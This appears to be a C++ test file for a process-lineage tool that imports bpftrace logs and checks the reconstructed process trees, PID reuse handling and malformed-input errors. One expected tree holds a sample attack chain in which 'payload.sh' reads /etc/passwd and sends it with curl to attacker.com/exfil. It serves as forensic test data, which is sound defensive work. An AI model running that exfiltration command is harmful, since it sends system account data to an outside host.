// lineage import --from bpftrace: the seed article's log forms, PID reuse,
// the reaper warning, and bad input.
#include <catch2/catch.hpp>

#include <filesystem>

#include <nlohmann/json.hpp>

#include "fixture_journal.h"

namespace test_import_bpftrace {

using namespace fixture;
using nlohmann::json;

namespace {

std::string sample(const std::string& name) {
    return std::string(LINEAGE_SOURCE_DIR) + "/testdata/import/bpftrace/" + name;
}

RunResult import(const TempDir& dir, const std::vector<std::string>& files) {
    std::vector<std::string> args{"import", "--from", "bpftrace"};
    for (const auto& f : files) args.push_back(f);
    args.insert(args.end(), {"--journal", "b.db"});
    return run_lineage(args, dir.path());
}

json tree_json(const TempDir& dir) {
    RunResult r = run_lineage({"reconstruct", "--journal", "b.db", "--format", "json"}, dir.path());
    INFO(r.err);
    REQUIRE(r.status == 0);
    return json::parse(r.out);
}

// "binary args..." of each process's images, and its children's, as an
// indented outline: what the tree says without times or keys.
void outline(const json& node, int depth, std::string& out) {
    std::string images;
    for (const auto& e : node.at("execs")) {
        if (!images.empty()) images += " -> ";
        std::string args;
        for (const auto& a : e.at("args")) args += (args.empty() ? "" : " ") + a.get<std::string>();
        images += args;
    }
    if (images.empty()) images = "[fork of " + node.at("fork_of").get<std::string>() + "]";
    out += std::string(static_cast<size_t>(depth) * 2, ' ') + images + " (" +
           std::to_string(node.at("pid").get<int>()) + (node.at("exit").is_null() ? "" : ", exited") + ")\n";
    for (const auto& c : node.at("children")) outline(c, depth + 1, out);
}

std::string outline_of(const json& doc) {
    std::string out;
    for (const auto& t : doc.at("trees")) outline(t, 0, out);
    return out;
}

}  // namespace

TEST_CASE("bpftrace: the seed's FORK and EXEC lines, without times", "[import][bpftrace]") {
    TempDir dir;
    RunResult r = import(dir, {sample("seed_fork_exec.log")});
    INFO(r.err);
    REQUIRE(r.status == 0);
    const json doc = tree_json(dir);
    // my-app (18201) is only named, by the FORK line: the tree starts below it.
    CHECK(outline_of(doc) ==
          "sh -c curl http://... (18293)\n"
          "  sh payload.sh (18294)\n"
          "    cat /etc/passwd (18295)\n"
          "    curl http://attacker.com/exfil -d @/etc/passwd (18296)\n");
    bool warned = false;
    for (const auto& w : doc.at("warnings")) {
        if (w.at("kind") == "imported") {
            warned = true;
            CHECK_THAT(w.at("message").get<std::string>(), Catch::Contains("may be reapers"));
            CHECK_THAT(w.at("message").get<std::string>(), Catch::Contains("the log has no times"));
        }
    }
    CHECK(warned);
    CHECK(run_lineage({"verify", "--journal", "b.db"}, dir.path()).status == 0);
}

TEST_CASE("bpftrace: the seed's NSECS EXEC and EXIT lines, parents from ppid", "[import][bpftrace]") {
    TempDir dir;
    RunResult r = import(dir, {sample("seed_nsecs.log")});
    INFO(r.err);
    REQUIRE(r.status == 0);
    const json doc = tree_json(dir);
    // 18201 never appears on a line of its own: sh's parent is named only.
    CHECK(outline_of(doc) ==
          "/bin/sh (18293, exited)\n"
          "  /bin/sh (18294)\n"
          "    /bin/cat (18295, exited)\n"
          "    /usr/bin/curl (18296)\n");
    // The times are the log's, as wall-clock times.
    CHECK(doc.at("trees").at(0).at("start_time") == "2025-04-22T04:34:03.123456789Z");
    std::string text = run_lineage({"reconstruct", "--journal", "b.db", "--times"}, dir.path()).out;
    const std::string prefix = std::string(LINEAGE_SOURCE_DIR) + "/";
    for (size_t at; (at = text.find(prefix)) != std::string::npos;) text.erase(at, prefix.size());
    CHECK(golden_mismatch("import_bpftrace_nsecs.txt", text) == "");
}

TEST_CASE("bpftrace: the compact form, a thread's exit, and a PID reused after its exit", "[import][bpftrace]") {
    TempDir dir;
    RunResult r = import(dir, {sample("compact_reuse.log")});
    INFO(r.err);
    REQUIRE(r.status == 0);
    const json doc = tree_json(dir);
    // PID 200 is two processes: python3 (its thread 201 a fork child that
    // did not exit as a process), then curl.
    CHECK(outline_of(doc) ==
          "/usr/bin/python3 (200, exited)\n"
          "  [fork of python3] (201)\n"
          "/usr/bin/curl (200, exited)\n");
    // Both are children of the same bash, by their FORK lines.
    CHECK(doc.at("trees").at(0).at("ppid") == 100);
    CHECK(doc.at("trees").at(1).at("ppid") == 100);
    CHECK(doc.at("trees").at(0).at("key") != doc.at("trees").at(1).at("key"));
}

TEST_CASE("bpftrace: malformed lines are named, other formats refused", "[import][bpftrace]") {
    TempDir dir;
    write_file(dir / "mixed.log",
               "Attaching 3 probes...\n"
               "1000 EXEC pid=10 ppid=1 binary=/bin/sh\n"
               "1001 EXEC pid=x ppid=1 binary=/bin/sh\n"
               "garbage here\n"
               "F 1002 10\n"
               "1003 EXIT pid=10 comm=sh\n");
    RunResult r = import(dir, {"mixed.log"});
    CHECK(r.status == 1);
    CHECK_THAT(r.err, Catch::Contains("mixed.log:3: pid is not a number"));
    CHECK_THAT(r.err, Catch::Contains("mixed.log:4: not a FORK, EXEC or EXIT line"));
    CHECK_THAT(r.err, Catch::Contains("mixed.log:5: F line with 3 fields"));
    CHECK_THAT(r.err, Catch::Contains("3 malformed"));
    CHECK(outline_of(tree_json(dir)) == "/bin/sh (10, exited)\n");

    std::filesystem::remove(dir / "b.db");
    RunResult t = import(dir, {std::string(LINEAGE_SOURCE_DIR) + "/testdata/import/tetragon/testdata_events.jsonl"});
    CHECK(t.status == 2);
    CHECK_THAT(t.err, Catch::Contains("not a line of a bpftrace recorder log"));
    CHECK(!std::filesystem::exists(dir / "b.db"));
}

}  // namespace test_import_bpftrace
